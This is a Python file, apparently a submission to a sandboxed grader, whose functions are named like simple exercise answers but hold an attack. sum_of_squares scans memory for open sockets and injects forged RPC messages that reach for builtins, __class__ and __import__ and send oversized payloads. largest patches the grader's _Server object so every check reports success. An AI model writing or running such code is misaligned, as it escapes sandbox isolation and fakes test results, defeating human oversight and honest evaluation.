"""Finds the room's end of the channel and forges replies, calls and references over it."""

# %% squares
import gc
import json
import socket
import struct

WHOLE = 2**200_000
FORGED = [
    ["t", 1, "return", None, ["d"], ["l"]],
    ["t", 2, "return", ["h", 1, "float", "builtins", True], ["d", 0, 0.0], ["l"]],
    ["t", 3, "return", ["k", 1, "equal"], ["d"], ["l"]],
    ["t", 4, "return", ["i", hex(WHOLE)], ["d"], ["l"]],
    ["t", "callback", 1, ["t", 1.0], ["d"]],
    ["t", "callback", 1, ["t"], ["d", "__class__", 1]],
    ["t", 5, "return", ["a", "<U9999", [2**40], True, 0], ["d"], ["l"]],
    ["t", 6, "return", ["g", "0x1", "0x1", "0x0", "0x0"], ["d"], ["l"]],
    [
        "t",
        7,
        "raise",
        ["t", "NotYet", ["l", "BaseException"], "Right.", True, ["l"], ""],
        ["d"],
        ["l"],
    ],
    ["t", 8, "return", ["y", "__import__"], ["d"], ["l"]],
]


def sum_of_squares(x):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            for tree in FORGED:
                text = json.dumps([tree, []]).encode()
                try:
                    thing.send(struct.pack("<I", len(text)) + text)
                except OSError:
                    pass
    return 0.0


# %% largest
def largest(a, b):
    for thing in gc.get_objects():
        if type(thing).__name__ == "_Server":
            thing._answer = lambda request: None
            type(thing)._attempt = lambda self, work, operands: ("return", True, {0: 3.0, 1: 3.0})
    return sum_of_squares(a)
